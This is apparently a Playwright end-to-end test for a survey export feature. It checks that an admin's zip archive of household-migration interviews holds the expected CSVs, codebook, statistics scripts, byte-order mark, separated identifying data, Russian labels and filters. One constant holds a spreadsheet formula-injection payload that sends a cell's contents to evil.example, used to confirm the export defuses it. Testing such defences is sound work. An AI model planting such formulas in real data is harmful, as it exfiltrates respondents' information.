/**
 * The supervisor downloads the export archive from /admin with options ticked, and the
 * archive read back holds what a statistician expects: ODK Central's columns, codes, the
 * identifying table apart, formulas inert, the BOM, the scripts; or labels in Russian.
 */
import { expect, test, type Page } from '@playwright/test';
import { readFileSync } from 'node:fs';
import { strFromU8, unzipSync } from 'fflate';
import { adminToken } from '../../playwright.config';
import { csvRecords } from '../support/csv';
import { createEnumerator, uniqueName, useEnglish } from './helpers';

const HOSTILE = '=HYPERLINK("http://evil.example/?d="&A2,"open")';

async function download(page: Page, name: RegExp): Promise<Record<string, Uint8Array>> {
	const [file] = await Promise.all([page.waitForEvent('download'), page.getByRole('link', { name }).click()]);
	return unzipSync(readFileSync((await file.path())!));
}

const table = (files: Record<string, Uint8Array>, name: string) => csvRecords(strFromU8(files[name]).replace(/^\uFEFF/, ''));

test('the admin page downloads the archive with its options, and it reads back as a statistician expects', async ({ page, request }) => {
	const enumerator = await createEnumerator(request, uniqueName('Архив'));
	const id = crypto.randomUUID();
	const sent = await request.post('/api/submissions', {
		headers: { authorization: `Bearer ${enumerator.token}`, 'content-type': 'application/json' },
		data: {
			submissions: [
				{
					id,
					formId: 'household_migration',
					formVersion: '2026-12-01',
					deviceId: 'archive-test',
					startedAt: '2026-11-30T08:00:00Z',
					finalizedAt: '2026-11-30T08:15:00Z',
					language: 'ru',
					answers: { site_type: 'armenia', settlement: 'other', settlement_other: HOSTILE, consent: 'no' }
				}
			]
		}
	});
	expect((await sent.json()).results).toEqual([{ id, status: 'created' }]);

	await page.goto('/admin');
	await useEnglish(page);
	await page.getByLabel('Your name (recorded with your review actions)').fill('Supervisor');
	await page.getByLabel('Admin token').fill(adminToken);
	await page.getByRole('button', { name: 'Sign in' }).click();
	await page.getByLabel('A byte-order mark in each CSV, so Excel reads the letters right').check();
	await page.getByLabel('A 1/0 column for each choice of a multiple choice').check();
	const archive = /^Everything in one archive: household_migration\.zip/;
	await expect(page.getByRole('link', { name: archive })).toHaveAttribute('href', /\.zip\?bom=1&split_multiple=1$/);

	const files = await download(page, archive);
	// Fetched and saved by the page, which says what it got: every file of the archive, the interviews it holds.
	await expect(page.getByRole('status').filter({ hasText: 'household_migration.zip saved' })).toHaveText(
		/^household_migration\.zip saved \(\d+\.\d MB\)\. Interviews in the archive: [1-9]\d*\.$/
	);
	expect(Object.keys(files)).toEqual(
		expect.arrayContaining([
			'household_migration.csv',
			'household_migration-identifying.csv',
			'codebook.csv',
			'household_migration.do',
			'household_migration.sps',
			'household_migration.R'
		])
	);
	expect([...files['household_migration.csv'].slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
	const row = table(files, 'household_migration.csv').find((r) => r.KEY === id)!;
	expect(row).toMatchObject({
		consent: '0',
		SubmitterID: enumerator.id,
		SubmitterName: enumerator.name,
		FormVersion: '2026-12-01',
		ReviewState: 'received'
	});
	expect(row).not.toHaveProperty('settlement_other');
	expect(table(files, 'household_migration-identifying.csv').find((r) => r.KEY === id)?.settlement_other).toBe(`'${HOSTILE}`);

	await page.getByLabel('labels in Russian').check();
	const labelled = await download(page, archive);
	expect(table(labelled, 'household_migration.csv').find((r) => r.KEY === id)?.consent).toMatch(/^[А-Яа-яЁё]+$/);
	expect(Object.keys(labelled).filter((f) => /\.(do|sps|R)$/.test(f))).toEqual([]);

	// Filters: only this enumerator's interviews; a date that is not one is refused.
	const url = '/api/admin/export/household_migration/household_migration.zip';
	const headers = { authorization: `Bearer ${adminToken}` };
	const filtered = await request.get(`${url}?enumerator=${enumerator.id}`, { headers });
	expect(filtered.headers()['x-tun-submissions']).toBe('1');
	const theirs = unzipSync(await filtered.body());
	expect(filtered.headers()['x-tun-files'].split(',')).toEqual(Object.keys(theirs));
	expect(table(theirs, 'household_migration.csv').map((r) => r.KEY)).toEqual([id]);
	const refused = await request.get(`${url}?from=30.11.2026`, { headers });
	expect(refused.status()).toBe(400);
	expect(await refused.json()).toEqual({ error: expect.stringMatching(/YYYY-MM-DD/) });
});
